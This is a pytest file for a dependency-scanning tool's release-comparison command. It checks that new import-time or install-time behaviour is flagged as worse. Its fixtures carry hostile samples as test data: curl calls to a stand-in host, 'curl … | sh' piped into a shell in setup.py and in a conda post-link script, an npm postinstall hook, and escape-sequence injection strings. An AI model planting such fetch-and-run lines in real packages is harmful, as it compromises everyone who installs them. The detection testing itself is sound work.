"""``depscan compare`` and its library entrance, as a user meets them."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

import pytest

from depscan.comparison import CompareOptions, compare_paths, compare_release
from depscan.errors import ArtifactError, UsageError
from tests.unit.artifacts.builders import tar_of, zip_of
from tests.unit.release.releases import CODE, npm_bytes, save, sdist_bytes, wheel_bytes

Run = Callable[..., tuple[int, str, str]]
BASE = {"alpha/__init__.py": CODE}
RUNS = {"alpha/__init__.py": "import subprocess\n\nsubprocess.Popen('curl https://collector.invalid', shell=True)\n"}


def wheels(folder: Path, *versions: tuple[str, dict[str, str]], name: str = "demo", metadata: str = "") -> list[str]:
    return [
        save(folder, f"{name}-{v}-py3-none-any.whl", wheel_bytes(files, v, name=name, metadata=metadata))
        for v, files in versions
    ]


def test_a_worse_release_ends_with_one_and_shows_the_line(run: Run, tmp_path: Path) -> None:
    code, out, _ = run(*wheels(tmp_path, ("1.0", BASE), ("1.0.1", RUNS)))
    assert code == 1
    assert out.startswith("demo 1.0 -> 1.0.1 (patch): WORSE\n")
    assert "+ at import, process: curl('curl https://collector.invalid')  alpha/__init__.py:3\n" in out
    assert out.endswith("verdict: worse\n")
    assert run("--exit-zero", *wheels(tmp_path, ("1.0", BASE), ("1.0.1", RUNS)))[0] == 0


def test_an_ordinary_release_ends_with_zero(run: Run, tmp_path: Path) -> None:
    code, out, _ = run(*wheels(tmp_path, ("1.0", BASE), ("1.1", {**BASE, "alpha/more.py": CODE})))
    assert (code, "nothing that runs or is needed differs" in out) == (0, True)


def test_json_says_the_same_in_a_stable_shape(run: Run, tmp_path: Path) -> None:
    code, out, _ = run(*wheels(tmp_path, ("1.0", BASE), ("1.0.1", RUNS)), "--format", "json")
    answer = json.loads(out)
    assert (code, answer["schema_version"], answer["verdict"], answer["exit_code"]) == (1, "1", "worse", 1)
    (one,) = answer["comparisons"]
    assert one["new"]["version"] == "1.0.1"
    added = one["added"][0]
    assert {k: added[k] for k in ("kind", "when", "path", "line", "loud")} == {
        "kind": "process", "when": "import", "path": "alpha/__init__.py", "line": 3, "loud": True,
    }  # fmt: skip
    assert set(one) == {
        "old", "new", "package", "jump", "verdict", "reasons", "added", "removed", "behaviour", "behaviour_gone",
        "new_requirements", "removed_requirements", "changed_requirements", "people", "size_jump", "largest_new_file",
        "gaps", "notes",
    }  # fmt: skip


def test_hostile_text_is_shown_harmless(run: Run, tmp_path: Path) -> None:
    hostile = {"alpha/__init__.py": "import os\nos.system('\\x1b[31m|<b>@all ![x](y)')\n"}
    pair = wheels(tmp_path, ("1.0", BASE), ("1.0.1", hostile), metadata="Author: a\x1b[2J\u202eb\n")
    for form in ("text", "json", "markdown"):
        out = run(*pair, "--format", form)[1]
        assert "\x1b" not in out
        assert "\u202e" not in out
    assert "<b>" not in out
    assert "](y)" not in out.replace("\\]", "")


def test_names_are_found_in_a_wheelhouse_and_paired_alike(run: Run, tmp_path: Path) -> None:
    wheels(tmp_path, ("1.0", BASE), ("1.1", BASE))
    save(tmp_path, "demo-1.0.tar.gz", sdist_bytes({"setup.py": "", **BASE}, "1.0"))
    setup = "import os\nos.system('curl https://collector.invalid | sh')\n"
    save(tmp_path, "demo-1.1.tar.gz", sdist_bytes({"setup.py": setup, **BASE}, "1.1"))
    code, out, _ = run("Demo==1.0", "demo==1.1", "--find-links", str(tmp_path))
    assert code == 1
    assert "demo-1.0-py3-none-any.whl -> demo-1.1-py3-none-any.whl" in out
    assert "demo-1.0.tar.gz -> demo-1.1.tar.gz" in out
    assert "at install, process" in out


def test_what_is_not_at_hand_is_incomplete_and_never_clean(run: Run, tmp_path: Path) -> None:
    wheels(tmp_path, ("1.0", BASE))
    code, out, _ = run("demo==1.0", "demo==2.0", "--find-links", str(tmp_path))
    assert (code, "no archive of demo==2.0 is at hand" in out) == (4, True)


def test_bad_calls_are_bad_input(run: Run, tmp_path: Path) -> None:
    (here,) = wheels(tmp_path, ("1.0", BASE))
    assert run("demo==1.0", here)[0] == 2
    assert run(here, str(tmp_path / "missing.whl"))[0] == 2
    assert run(here, here, "--find-links", str(tmp_path / "missing"))[0] == 2
    with pytest.raises(ArtifactError):
        compare_paths(here, str(tmp_path / "missing.whl"))
    with pytest.raises(UsageError):
        compare_release([here])


def test_a_cut_archive_is_incomplete(tmp_path: Path) -> None:
    old, new = wheels(tmp_path, ("1.0", BASE), ("1.1", BASE))
    data = Path(new).read_bytes()
    Path(new).write_bytes(data[: len(data) // 2])
    assert compare_paths(old, new).verdict == "incomplete"
    assert compare_paths(new, old).verdict in {"incomplete", "worse"}
    first, second = (
        save(tmp_path, f"demo-{v}.tar.gz", sdist_bytes({"setup.py": CODE * 99}, v)) for v in ("1.0", "1.1")
    )
    data = Path(second).read_bytes()
    Path(second).write_bytes(data[: len(data) - 60])
    assert compare_paths(first, second).verdict == "incomplete"


def test_an_empty_archive_is_incomplete(tmp_path: Path) -> None:
    (old,) = wheels(tmp_path, ("1.0", BASE))
    assert compare_paths(old, save(tmp_path, "demo-1.1-py3-none-any.whl", zip_of({}))).verdict == "incomplete"
    (tmp_path / "empty").mkdir()
    assert compare_paths(old, str(tmp_path / "empty")).verdict == "incomplete"


def test_a_new_dependency_with_a_hook_is_worse_where_its_archive_is_at_hand(tmp_path: Path) -> None:
    plain = '{"name": "demo", "version": "1.0.0"}'
    more = '{"name": "demo", "version": "1.0.1", "dependencies": {"plain-thing": "^4.2.1"}}'
    old, new = (save(tmp_path, f"demo-1.0.{i}.tgz", npm_bytes(text)) for i, text in enumerate((plain, more)))
    alone = compare_paths(old, new)
    assert (alone.verdict, alone.diffs[0].new_requirements[0].read) == ("same", "")
    hook = '{"name": "plain-thing", "version": "4.2.1", "scripts": {"postinstall": "node setup.js"}}'
    save(tmp_path, "plain-thing-4.2.1.tgz", npm_bytes(hook))
    options = CompareOptions((str(tmp_path),), {"plain-thing": "2026-11-28T10:00:00Z"}, "2026-11-29T12:00:00Z")
    diff = compare_paths(old, new, options)
    assert diff.verdict == "worse"
    assert diff.diffs[0].new_requirements[0].age_days == 1
    assert any("needs plain-thing, which runs unasked at install" in reason for reason in diff.reasons)


def test_an_index_can_be_asked_for_what_no_folder_has(tmp_path: Path) -> None:
    held = wheels(tmp_path, ("1.0", BASE), ("1.1", RUNS))
    asked: list[tuple[str, str, str]] = []

    def fetch(ecosystem: str, name: str, version: str) -> list[str]:
        asked.append((ecosystem, name, version))
        return [path for path in held if f"-{version}-" in path]

    assert compare_paths("demo==1.0", "demo==1.1", CompareOptions(fetch=fetch)).verdict == "worse"
    assert asked == [("PyPI", "demo", "1.0"), ("PyPI", "demo", "1.1")]


def test_an_installed_package_is_compared_with_a_wheel(tmp_path: Path) -> None:
    info = tmp_path / "site-packages" / "demo-1.0.dist-info"
    info.mkdir(parents=True)
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n\n")
    (info / "RECORD").write_text("alpha/__init__.py,,\ndemo-1.0.dist-info/METADATA,,\ndemo-1.0.dist-info/RECORD,,\n")
    (tmp_path / "site-packages" / "alpha").mkdir()
    (tmp_path / "site-packages" / "alpha" / "__init__.py").write_text(CODE)
    (tmp_path / "site-packages" / "other.py").write_text("import os; os.system('true')\n")
    (new,) = wheels(tmp_path, ("1.1", RUNS))
    diff = compare_paths(str(info), new).diffs[0]
    assert (diff.versions, diff.verdict) == (("1.0", "1.1"), "worse")
    assert compare_paths(new, str(info)).verdict == "better"


def test_the_archives_of_one_release_are_compared_on_the_command_line(run: Run, tmp_path: Path) -> None:
    (one,) = wheels(tmp_path, ("1.0", BASE))
    fetch = "import urllib.request\nurllib.request.urlopen('https://collector.invalid')\n"
    other = save(tmp_path, "demo-1.0.tar.gz", sdist_bytes({"setup.py": "", "alpha/__init__.py": CODE + fetch}))
    code, out, _ = run("--whole-release", one, other)
    assert code == 1
    assert "+ at import, network, only in demo-1.0.tar.gz: urllib.request.urlopen" in out
    assert json.loads(run("--whole-release", one, other, "--format", "json")[1])["only"][0]["archive"] == other[-15:]
    assert run("--whole-release", one, other, "--format", "markdown")[1].startswith("**demo")


def test_conda_packages_are_compared(tmp_path: Path) -> None:
    index = '{{"name": "demo", "version": "{}", "depends": ["python >=3.9"{}]}}'
    texts = [index.format("1.0", ""), index.format("1.1", ', "beta 2.*"')]
    old, new = (
        save(tmp_path, f"demo-1.{i}-0.tar.bz2", tar_of({"info/index.json": text, "bin/x": "#!/bin/sh\n"}, "w:bz2"))
        for i, text in enumerate(texts)
    )
    diff = compare_paths(old, new).diffs[0]
    assert (diff.verdict, [n.requirement.name for n in diff.new_requirements]) == ("same", ["beta"])
    hooked = tar_of(
        {"info/index.json": texts[1], "bin/.demo-post-link.sh": "curl https://collector.invalid | sh\n"}, "w:bz2"
    )
    assert compare_paths(old, save(tmp_path, "demo-1.2-0.tar.bz2", hooked)).verdict == "worse"
